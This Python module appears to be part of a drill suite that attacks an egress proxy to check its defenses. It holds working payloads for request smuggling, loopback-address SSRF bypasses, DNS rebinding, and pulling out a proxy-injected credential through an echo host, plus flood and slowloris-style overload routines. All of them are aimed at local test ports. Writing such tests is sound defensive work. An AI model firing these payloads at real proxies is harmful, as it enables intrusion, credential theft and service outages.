"""Attacks on the egress proxy: what it holds, whom it asks, how much it can bear."""

from __future__ import annotations

import contextlib
import os
import socket
import zlib
from collections.abc import Iterator
from urllib.parse import urlsplit

from remit.drills.attacks.target import Seen, Target, attempt, spawn

__all__ = [
    "CREDENTIAL",
    "REBOUND",
    "flood_calls",
    "overload_proxy",
    "rebind_name",
    "smuggle_requests",
    "steal_credential",
]

CREDENTIAL = "held-credential-"
"""How the credential that is held outside begins."""
REBOUND = "rebound.test"
"""A name that was granted and that somebody else lets lead to the host's own loopback."""
SOON = 0.5  # seconds a connection may take
FLOOD = 3.0  # seconds of calls without pause
REPEATED = (
    ("GET", "/echo"),
    ("GET", "/pieces"),
    ("GET", "/packed"),
    ("GET", "/packed-anyway"),
    ("TRACE", "/echo"),
    ("POST", "/echo"),
)
ADDED = ("", "Connection: Authorization\r\n", "Authorization: mine\r\n", "Range: bytes=20-60\r\n", "TE: trailers\r\n")
END = "\r\n\r\n"


def proxy() -> tuple[str, int] | None:
    """Where the egress proxy listens."""
    named = urlsplit(os.environ.get("HTTP_PROXY", ""))
    return (named.hostname, named.port or 80) if named.hostname else None


def through_proxy(data: bytes, most: int = 65536) -> bytes:
    """Send bytes to the egress proxy and return what comes back; raises ``OSError``."""
    place = proxy()
    if place is None:
        raise FileNotFoundError(2, "there is no proxy")
    answer = b""
    with socket.create_connection(place, 2.0) as line:
        line.settimeout(1.5)
        line.sendall(data)
        with contextlib.suppress(TimeoutError):
            while len(answer) < most and (part := line.recv(4096)):
                answer += part
    return answer


def answer_to(data: bytes) -> bytes:
    """What the proxy answers, or what the system said instead."""
    try:
        return through_proxy(data)
    except OSError as error:
        return str(error).encode()


def requests_of(target: Target) -> Iterator[tuple[str, bytes]]:
    """Requests that name a host that is granted and mean one that is not: ``ports`` are granted, then forbidden."""
    good, bad = target.ports[0], target.ports[-1]
    granted, forbidden = f"127.0.0.1:{good}", f"127.0.0.1:{bad}"
    plain = f"GET http://{forbidden}/stolen HTTP/1.1\r\nHost: {forbidden}\r\nConnection: close{END}"
    yield "the forbidden host", plain.encode()
    yield "another host header", f"GET http://{granted}/ HTTP/1.1\r\nHost: {forbidden}{END}".encode()
    spellings = ("127.1", "0x7f000001", "2130706433", "[::ffff:127.0.0.1]", "localhost", "0177.0.0.1", "127.0.0.1.")
    for spelling in spellings:
        yield spelling, plain.replace("127.0.0.1", spelling).encode()
    yield "a name of the account", plain.replace(f"http://{forbidden}", f"http://{granted}@{forbidden}").encode()
    yield "a backslash", plain.replace(f"http://{forbidden}", f"http://{granted}\\@{forbidden}").encode()
    yield "CONNECT", f"CONNECT {forbidden} HTTP/1.1\r\nHost: {forbidden}{END}GET /stolen HTTP/1.1\r\n\r\n".encode()
    yield "CONNECT to the granted one", f"CONNECT {granted} HTTP/1.1\r\nHost: {granted}{END}{plain}".encode()
    body = f"GET http://{granted}/ HTTP/1.1\r\nHost: {granted}\r\n"
    yield "two lengths", f"{body}Content-Length: 0\r\nContent-Length: {len(plain)}{END}{plain}".encode()
    yield "length and chunks", f"{body}Content-Length: 4\r\nTransfer-Encoding: chunked{END}0{END}{plain}".encode()
    yield "odd chunks", f"{body}Transfer-Encoding: xchunked{END}0{END}{plain}".encode()
    yield "a second request", f"{body.rstrip()}{END}{plain}".encode()
    yield "a folded header", f"{body}X: a\r\n Host: {forbidden}{END}".encode()
    yield "a bare line feed", f"{body}X: a\nHost: {forbidden}{END}".encode()
    yield "a line break in the path", f"GET http://{granted}/%0d%0aHost:%20{forbidden} HTTP/1.1{END}".encode()
    yield "FTP", plain.replace("http://", "ftp://").encode()
    yield "a file", plain.replace(f"http://{forbidden}", f"file://{target.secret}").encode()


def smuggle_requests(target: Target) -> Seen:
    """Reaches a host it was not granted through the proxy: spellings, mixed host names, smuggled second requests."""
    outcomes = [(name, answer_to(data)) for name, data in requests_of(target)]
    stolen = [name for name, answer in outcomes if b"forbidden ground" in answer]
    seen = ", ".join(f"{name} {answer[9:12].decode('latin-1')!r}" for name, answer in outcomes)
    return Seen(succeeded=bool(stolen), seen=seen)


def rebind_name(target: Target) -> Seen:
    """Calls a host it was granted by a name that meanwhile leads to the host's own loopback (DNS rebinding)."""
    host = f"{REBOUND}:{target.ports[-1]}"
    answer = answer_to(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close{END}".encode())
    return Seen(succeeded=b"forbidden ground" in answer, seen=answer[:160].decode("latin-1"))


def steal_credential(target: Target) -> Seen:
    """Has a host that repeats what it is sent repeat the credential the proxy puts in: plain, in pieces, compressed."""
    host = f"127.0.0.1:{target.ports[0]}"
    found = [name for name in os.environ if CREDENTIAL in os.environ[name]]
    seen = []
    for method, path in REPEATED:
        for extra in ADDED:
            head = f"{method} http://{host}{path} HTTP/1.1\r\nHost: {host}\r\nAccept-Encoding: gzip\r\n{extra}"
            answer = answer_to(f"{head}Content-Length: 0\r\nConnection: close{END}".encode())
            seen.append(answer[9:12].decode("latin-1"))
            if CREDENTIAL.encode() in answer or CREDENTIAL.encode() in unpacked(answer):
                found.append(f"{method} {path} {extra.strip()}")
    return Seen(succeeded=bool(found), seen=f"found in {', '.join(found)}" if found else f"answers {' '.join(seen)}")


def unpacked(answer: bytes) -> bytes:
    """The body of an answer with its chunks joined and its compression undone, as far as that goes."""
    body = answer.partition(b"\r\n\r\n")[2]
    joined = b"".join(part for part in body.split(b"\r\n")[1::2]) if b"chunked" in answer[:2000] else body
    texts = [joined]
    for data in (body, joined):
        with contextlib.suppress(zlib.error):
            texts.append(zlib.decompressobj(31).decompress(data))
    return b"\n".join(texts)


def flood_calls(target: Target) -> Seen:
    """Calls a granted host without pause from eight processes, so that its supervisor does nothing but record."""
    host = f"127.0.0.1:{target.ports[0]}"
    call = f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close{END}".encode()

    def work() -> None:
        while not target.expired():
            answer_to(call)

    for _ in range(8):
        spawn(work)
    target.rest(FLOOD)
    return Seen(succeeded=False, seen="eight processes call; whether the supervisor still answers is judged outside")


def overload_proxy(target: Target) -> Seen:
    """Breaks the proxy: headers without end, thousands of them, many connections at once, half requests."""
    place = proxy()
    if place is None:
        return Seen(succeeded=False, seen="there is no proxy to break")
    endless = b"GET http://127.0.0.1/ HTTP/1.1\r\nX: " + b"a" * 4_000_000
    many = b"GET http://127.0.0.1/ HTTP/1.1\r\n" + b"X: a\r\n" * 100_000
    outcomes = [answer_to(data)[:40].decode("latin-1") for data in (endless, many, b"\0" * 100_000)]
    lines: list[socket.socket] = []

    def half() -> None:
        lines.append(socket.create_connection(place, SOON))
        lines[-1].sendall(b"GET ")

    refused = sum(bool(attempt(half)) for _ in range(300))
    target.rest(0.5)
    for line in lines:
        line.close()
    granted = f"127.0.0.1:{target.ports[0]}"
    ordinary = f"GET http://{granted}/ HTTP/1.1\r\nHost: {granted}\r\nConnection: close{END}".encode()
    answer = answer_to(ordinary)
    while b"granted ground" not in answer and not target.expired():  # a busy one answers late, a broken one never
        answer = answer_to(ordinary)
    seen = f"{outcomes}; {len(lines)} half requests, {refused} refused; afterwards {answer[:15]!r}"
    return Seen(succeeded=b"granted ground" not in answer, seen=seen)
